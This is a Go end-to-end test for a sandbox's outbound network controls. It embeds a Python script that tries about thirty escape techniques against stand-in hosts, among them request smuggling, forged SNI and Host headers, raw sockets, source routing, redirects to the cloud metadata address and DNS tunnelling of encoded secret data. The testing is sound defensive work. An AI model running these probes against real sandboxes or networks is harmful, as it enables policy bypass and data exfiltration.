package e2e

import (
	"encoding/base64"
	"encoding/json"
	"net"
	"os/exec"
	"slices"
	"testing"

	"cube/internal/internet"
	"cube/internal/testhost"
)

// What code inside tries in a sandbox that may reach good.example and what is below
// free.example, and nothing else. Each attack answers where it arrived, "closed", or
// "refused" by the sandbox's own kernel.
const attacksScript = `
import json, socket, ssl, struct
exec(open("/tmp/probe.py").read().partition("\nanswers = {}")[0])
GOOD, BAD = "203.0.113.1", "203.0.113.66"

def say(address, request, port=80):
    with socket.create_connection((address, port), timeout=20) as s:
        s.sendall(request.encode())
        answer = b""
        while part := s.recv(4096):
            answer += part
        return answer

def places(answer):
    return " ".join(a for a in (GOOD, BAD, "10.99.99.1", "169.254.169.254") if (a + " ").encode() in answer) or "closed"

def forged(name, address):
    with socket.create_connection((address, 443), timeout=20) as s, unverified().wrap_socket(s, server_hostname=name) as t:
        return who(t, name)

def opened(*kind):
    socket.socket(*kind).close()
    return "opened"

def tun():
    import fcntl
    with open("/dev/net/tun", "r+b", buffering=0) as f:
        fcntl.ioctl(f, 0x400454ca, struct.pack("16sH22x", b"attack", 0x1001))
        return "opened"

def freebind():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_IP, 15, 1)
        s.bind(("8.8.8.8", 0))
        s.sendto(b"attack", (GOOD, 7))
        return "sent"

def options():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_IP, 4, bytes([131, 7, 4]) + socket.inet_aton(BAD) + b"\0")
        s.sendto(b"attack", (GOOD, 7))
        return "sent"

H = "GET /who HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
K = "GET /who HTTP/1.1\r\nHost: %s\r\n\r\n"
attacks = {
    "allowed": lambda: https("good.example", 20),
    "a raw socket": lambda: opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
    "a packet socket": lambda: opened(socket.AF_PACKET, socket.SOCK_RAW, 3),
    "a link of its own": tun, "another source": freebind, "source routing": options,
    "a forged server name": lambda: forged("good.example", BAD),
    "a forged server name, to a private address": lambda: forged("good.example", "10.99.99.1"),
    "another's server name": lambda: forged("bad.example", GOOD),
    "no server name": lambda: forged(GOOD, GOOD),
    "a forged Host": lambda: places(say(BAD, H % "good.example")),
    "another's Host": lambda: places(say(GOOD, H % "bad.example")),
    "an address as Host": lambda: places(say(GOOD, H % GOOD)),
    "a Host with a port": lambda: places(say(GOOD, H % "bad.example:80")),
    "a second request for another": lambda: places(say(GOOD, K % "good.example" + H % "bad.example")),
    "two Hosts": lambda: places(say(GOOD, "GET /who HTTP/1.1\r\nHost: good.example\r\nHost: bad.example\r\nConnection: close\r\n\r\n")),
    "an absolute target": lambda: places(say(GOOD, "GET http://bad.example/who HTTP/1.1\r\nHost: good.example\r\nConnection: close\r\n\r\n")),
    "a request within a request": lambda: places(say(GOOD, "POST /who HTTP/1.1\r\nHost: good.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n" + H % "bad.example")),
    "CONNECT": lambda: places(say(GOOD, "CONNECT bad.example:80 HTTP/1.1\r\nHost: good.example\r\n\r\n" + H % "bad.example")),
    "HTTP/2 without TLS": lambda: places(say(GOOD, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + H % "bad.example")),
    "a redirect": lambda: fetch("http://good.example/redirect?to=http://bad.example/who"),
    "a redirect to the metadata service": lambda: fetch("http://good.example/redirect?to=http://169.254.169.254/who"),
    "a name server of its own": lambda: udpname("8.8.8.8", 2),
    "a name with data": lambda: name("c2VjcmV0.tunnel.example", 2),
    "below an allowed name": lambda: name("c2VjcmV0.good.example", 2),
    "a name that is free": lambda: https("a.free.example", 20),
    "a name at a private address": lambda: https("private.free.example", 20),
    "a name at the metadata service": lambda: http("metadata.free.example", 20),
    "a name at this machine": lambda: http("machine.free.example", 20),
    "a name at loopback": lambda: http("loopback.free.example", 20),
    "a name at two places": lambda: http("both.free.example", 20),
}

def fetch(url):
    import urllib.request
    return places(urllib.request.urlopen(url, timeout=20).read())

answers = {}
def run(what, attack):
    try:
        answers[what] = attack() or "closed"
    except PermissionError:
        answers[what] = "refused"
    except (OSError, ValueError) as e:
        answers[what] = "closed"

threads = [threading.Thread(target=run, args=a) for a in attacks.items()]
[t.start() for t in threads]
[t.join() for t in threads]
print(json.dumps(answers))
`

// Code inside gets nowhere that it may not go, whatever it says and to whom.
func TestAttacksOnTheWayOut(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("there is no python3 inside")
	}
	i := testhost.Internet()
	for name, at := range map[string][]string{
		"a": {testhost.GoodAddr}, "private": {"10.99.99.1"}, "metadata": {internet.Metadata}, "machine": {internet.MachineAddr},
		"loopback": {"127.0.0.1"}, "both": {"10.99.99.1", testhost.GoodAddr},
	} {
		i.SetName(name+".free.example", at...)
	}
	// On the machine a server listens that would answer.
	l, err := net.Listen("tcp4", ":80")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	reached := make(chan string, 100)
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			reached <- conn.RemoteAddr().String()
			_ = conn.Close()
		}
	}()
	watch, err := i.Watch()
	if err != nil {
		t.Fatal(err)
	}
	defer watch.Close()
	s := startOnInternet(t, "--admin-bind", "127.0.0.1:0")
	c := s.createWith(map[string]any{"allowOut": []string{"good.example", "*.free.example"}, "denyOut": []string{"0.0.0.0/0"}})
	s.prober(c)
	asked := len(i.Asked())
	out, code := s.shell(c, "root", "echo "+base64.StdEncoding.EncodeToString([]byte(attacksScript))+" | base64 -d > /tmp/attacks.py && python3 /tmp/attacks.py")
	var got map[string]string
	if err := json.Unmarshal([]byte(out), &got); code != 0 || err != nil {
		t.Fatalf("attacking: status %d, %s", code, out)
	}
	// Where they may arrive all the same: at the place that the name is at.
	const good = testhost.GoodAddr
	may := map[string][]string{
		"allowed": {good}, "a name that is free": {good}, "a name at two places": {good},
		"a forged server name": {good}, "a forged Host": {good}, "a second request for another": {good}, "an absolute target": {"closed", good},
		"a request within a request": {"closed", good},
		"a raw socket":               {"refused"}, "a packet socket": {"refused"}, "a link of its own": {"opened", "refused", "closed"},
		"another source": {"sent", "refused", "closed"}, "source routing": {"sent", "refused", "closed"}, // and not seen outside
	}
	for what, answer := range got {
		allowed := may[what]
		if allowed == nil {
			allowed = []string{"closed"}
		}
		if !slices.Contains(allowed, answer) {
			t.Errorf("%s: %s, want %v", what, answer, allowed)
		}
	}
	if len(got) < 25 {
		t.Errorf("there are answers of %d attacks alone", len(got))
	}
	for _, q := range i.Asked()[asked:] {
		if q.Server != internet.NameServer || q.Name == "c2vjcmv0.tunnel.example" || q.Name == "c2vjcmv0.good.example" || q.Name == "bad.example" {
			t.Errorf("%s was asked for %s", q.Server, q.Name)
		}
	}
	for _, p := range watch.Find(func(p internet.Packet) bool { return p.Dst.String() == testhost.BadAddr || p.DstPort == 7 }) {
		t.Errorf("it left: from %s to %s:%d", p.Src, p.Dst, p.DstPort)
	}
	select {
	case from := <-reached:
		t.Errorf("the machine's own server was reached from %s", from)
	default:
	}
}
